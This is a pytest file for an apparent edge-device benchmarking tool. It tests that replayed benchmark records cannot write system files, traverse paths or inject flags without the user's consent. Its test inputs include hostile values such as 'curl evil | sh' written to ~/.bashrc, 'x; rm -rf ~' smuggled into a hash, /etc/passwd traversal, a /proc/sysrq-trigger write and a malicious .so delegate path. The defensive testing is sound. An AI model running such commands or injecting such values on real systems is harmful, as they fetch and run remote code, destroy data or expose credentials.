"""D3.1: a record may come from elsewhere: what it cannot ask for, and what it may only with the user's word. Tables."""

from __future__ import annotations

from typing import Any

import pytest

from edgekit.addresses import Address, parse
from edgekit.benchmarking.again import again
from edgekit.benchmarking.trusting import (
    beyond_measuring,
    is_profile_name,
    is_run,
    profile_name,
    reached_beyond,
)
from edgekit.errors import InputError
from edgekit.records import Environment, Model, Plan, Profile, Record, Runtime
from edgekit.records.environment import Asked
from tests.benchmarking.records import record

pytestmark = pytest.mark.base
HASH = "ab" * 32
KNOB = "/sys/kernel/mm/transparent_hugepage/enabled"


def run(asked: Asked | None = None, **plan: Any) -> Record:
    return record(
        [10.0],
        model=Model(name="m", sha256=HASH),
        plan=Plan(launches=1, **plan),
        runtime=Runtime(name="trtexec"),
        environment=Environment(asked=asked or Asked()),
    )


def files(_: str) -> str | None:
    return None


@pytest.mark.parametrize(
    "plan",
    [
        {"other": {"knob /home/me/.bashrc": "curl evil | sh"}},
        {"other": {"knob /sys/../etc/passwd": "root::0:0"}},
        {"other": {"knob /proc/sysrq-trigger": "b"}},
        {"other": {"knob relative": "1"}},
        {"other": {f"knob {KNOB}\n": "1"}},
        {"other": {f"knob {KNOB}": ""}},
        {"other": {f"knob {KNOB}": "1\n2"}},
        {"other": {f"knob {KNOB}": "1" * 201}},
        {"other": {f"knob /sys/a/{number}": "1" for number in range(65)}},
        {"governor": "../../evil"},
        {"cpus": "0-9999," * 10_000 + "0"},
    ],
)
def test_d3_1_what_no_measurement_does_is_refused(plan: dict[str, Any]) -> None:
    with pytest.raises(InputError) as caught:
        again(run(**plan), None, sha256_of=files)
    assert caught.value.code == "E_RERUN"
    assert len(caught.value.message) < 500


@pytest.mark.parametrize("sha256", ["", "x; rm -rf ~", "AB" * 32, "ab" * 31, "ab" * 32 + "\n"])
def test_d3_1_a_hash_that_is_none_is_refused(sha256: str) -> None:
    first = record([10.0], model=Model(name="m", sha256=sha256))
    with pytest.raises(InputError) as caught:
        again(first, None, sha256_of=files)
    assert caught.value.code == "E_RERUN"


@pytest.mark.parametrize(
    ("first", "asks"),
    [
        (run(), []),
        (run(other={"privileged": False}), []),
        (run(other={"privileged": True}), ["root on the device (privileged)"]),
        (
            run(other={f"knob {KNOB}": "never"}),
            [f"'never' is written to {KNOB}, which no profile of yours says"],
        ),
        (
            run(Asked(runtime_flags=("--external_delegate_path=/tmp/evil.so",))),
            ["flags are handed to trtexec: --external_delegate_path=/tmp/evil.so"],
        ),
    ],
)
def test_d3_1_what_reaches_beyond_measuring_takes_the_users_word(first: Record, asks: list[str]) -> None:
    done = again(first, None, sha256_of=files)
    assert list(beyond_measuring(done.plan, done.options, None)) == asks


def test_d3_1_settings_of_the_users_own_profile_take_no_word() -> None:
    import msgspec

    from edgekit.profiles import load_profile

    plain = load_profile("generic-linux-arm64")
    own = msgspec.structs.replace(plain, bench=msgspec.structs.replace(plain.bench, knobs={KNOB: "never"}))
    for value, asked in (("never", 0), ("always", 1)):
        done = again(run(other={f"knob {KNOB}": value}), own, sha256_of=files)
        assert len(list(beyond_measuring(done.plan, done.options, own))) == asked


@pytest.mark.parametrize(
    ("address", "asked"),
    [
        (parse("local:"), False),
        (parse("adb:0123"), False),
        (parse("ssh://pi@board:22"), False),
        (parse("adb+ssh://lab/0123"), False),
        (parse("sim:pixel-8"), False),
        (parse("sim:pixel-8?state=/there"), False),
        (parse("sim:pixel-8?state=/home/me/.ssh"), True),
        (Address(kind="plugin", name="--do=anything"), True),
    ],
)
def test_d3_1_addresses_that_reach_further_take_the_users_word(address: Address, asked: bool) -> None:
    assert bool(list(reached_beyond(address, lambda folder: folder == "/there"))) == asked


@pytest.mark.parametrize(
    ("name", "is_one"),
    [
        ("raspberry-pi-5", True),
        ("/etc/passwd", False),
        ("../x", False),
        ("evil.yaml", False),
        ("a\n", False),
        ("a" * 101, False),
        ("", False),
        ("~root", False),
    ],
)
def test_d3_1_a_profile_is_named_and_never_a_path(name: str, is_one: bool) -> None:
    assert is_profile_name(name) == is_one
    first = record([10.0], profile=Profile(name=name))
    assert profile_name(first) == (name if is_one else None)


def test_d3_1_a_baseline_of_a_record_is_a_run_and_never_a_path() -> None:
    assert is_run("20260131-120000000-abcdef")
    assert not any(is_run(text) for text in ("", "/proc/kcore", "a/b", ".", "..", "-x", "a.json", "a\n"))
    done = again(run(Asked(baseline="/proc/kcore")), None, sha256_of=files)
    assert done.options.baseline is None
    assert "the baseline that it names is no run" in done.untold


@pytest.mark.parametrize(
    ("plan", "max_seconds", "cool_timeout_s"),
    [
        ({}, 60.0, 0.0),
        ({"max_seconds": 30.0, "cool_timeout_seconds": 120.0}, 30.0, 120.0),
        ({"max_seconds": 1e300, "cool_timeout_seconds": 1e300, "cool_to_mc": -273_000}, 60.0, 86_400.0),
        ({"max_seconds": -1.0, "cool_timeout_seconds": -1.0}, 0.0, 0.0),
    ],
)
def test_d3_1_no_record_makes_a_run_wait_for_ever(
    plan: dict[str, Any], max_seconds: float, cool_timeout_s: float
) -> None:
    found = again(run(min_seconds=0.0, **plan), None, sha256_of=files).plan
    assert (found.max_seconds, found.cool_timeout_s) == (max_seconds, cool_timeout_s)
